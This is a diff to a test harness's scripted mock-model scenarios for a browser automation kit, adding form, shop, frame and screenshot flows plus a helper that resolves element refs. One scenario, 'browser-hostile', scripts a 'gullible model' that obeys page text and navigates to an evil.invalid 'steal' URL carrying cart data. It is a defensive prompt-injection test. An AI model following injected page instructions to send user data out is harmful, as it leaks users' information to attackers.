@@ -53,6 +53,59 @@ export const SCENARIOS = {
     { calls: [["read_text", { selector: "#thanks" }]] },
     { text: "I filled in the form. The page says: {{last}}" },
   ],
+  // The browser kit (toolnexus-wasm/browser) on the fixture pages of tests/browser/ and the
+  // extension example: "{{ref:Label}}" is the ref of the element the latest snapshot shows
+  // with that name, a call named "*_suffix" calls the offered tool whose name ends so (a page
+  // tool's name holds its origin).
+  "browser-form": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_type", { ref: "{{ref:Your name}}", text: "Ada" }], ["browser_click", { ref: "{{ref:Send}}" }]] },
+    { calls: [["browser_read_text", {}]] },
+    { text: "I filled in the form. The page says: {{last}}" },
+  ],
+  "browser-shop": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_select_option", { ref: "{{ref:Quantity of Blue mug}}", values: ["2"] }], ["browser_click", { ref: "{{ref:Add Blue mug to cart}}" }]] },
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_click", { ref: "{{ref:Checkout}}" }]] },
+    { calls: [["browser_wait_for", { text: "Order placed" }], ["browser_read_text", {}]] },
+    { text: "Checked out. {{last}}" },
+  ],
+  // The button is replaced after the first snapshot: the old ref is stale, a new snapshot's works.
+  "browser-changing": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_wait_for", { text: "Ready" }]] },
+    { calls: [["browser_click", { ref: "{{ref:Start}}" }]] },
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_click", { ref: "{{ref:Start}}" }]] },
+    { text: "Started after a fresh snapshot. {{results}}" },
+  ],
+  "browser-frame": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_type", { ref: "{{ref:Coupon code}}", text: "SAVE10" }], ["browser_click", { ref: "{{ref:Apply coupon}}" }]] },
+    { calls: [["browser_snapshot", {}]] },
+    { text: "Applied the coupon. {{last}}" },
+  ],
+  // A gullible model: it does what the page's text tells it to (the kit must not let it).
+  "browser-hostile": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_navigate", { url: "http://evil.invalid/steal?data=cart" }]] },
+    { text: "I tried what the page said. {{results}}" },
+  ],
+  "browser-slow": [
+    { calls: [["browser_snapshot", {}]] },
+    { calls: [["browser_click", { ref: "{{ref:Place order}}" }]] },
+    { text: "Ordered. {{last}}" },
+  ],
+  "browser-webmcp": [
+    { calls: [["*_list_todos", {}], ["*_add_todo", { text: "Buy milk" }]] },
+    { calls: [["*_list_todos", {}]] },
+    { text: "The page's own tools say: {{last}}" },
+  ],
+  "browser-screenshot": [
+    { calls: [["browser_screenshot", {}]] },
+    { text: "I received {{images}}." },
+  ],
   // The Workflow example (examples/workflow): a JS tool, relay calls in the tab, then a JS tool
   // that runs only once the person approves it.
   checkout: [
@@ -361,7 +414,22 @@ function pickReply(view, scenarios) {
     const images = view.images?.join("; ") || "no image";
     return { text: step.text.replace("{{results}}", view.results.join("; ") || "no tools ran").replace("{{last}}", last).replace("{{images}}", images) };
   }
-  return { calls: step.calls.filter(([name]) => view.tools.includes(name)) };
+  const calls = step.calls.map(([name, args]) => [name.startsWith("*") ? view.tools.find((t) => t?.endsWith(name.slice(1))) ?? name : name, withRefs(args, view.results)]);
+  return { calls: calls.filter(([name]) => view.tools.includes(name)) };
+}
+
+/** `args` with each "{{ref:Label}}" replaced by the ref the latest result shows for `"Label"` ("e0" when none does). */
+function withRefs(args, results) {
+  const find = (label) => {
+    for (const r of [...results].reverse()) {
+      for (const line of r.split("\n")) {
+        const m = line.includes(`"${label}"`) && /\[ref=(\w+)\]/.exec(line);
+        if (m) return m[1];
+      }
+    }
+    return "e0";
+  };
+  return Object.fromEntries(Object.entries(args).map(([k, v]) => [k, typeof v === "string" ? v.replace(/^\{\{ref:(.+)\}\}$/, (_, l) => find(l)) : v]));
 }
 
 const tokens = (s) => Math.max(1, Math.ceil(String(s).length / 4));
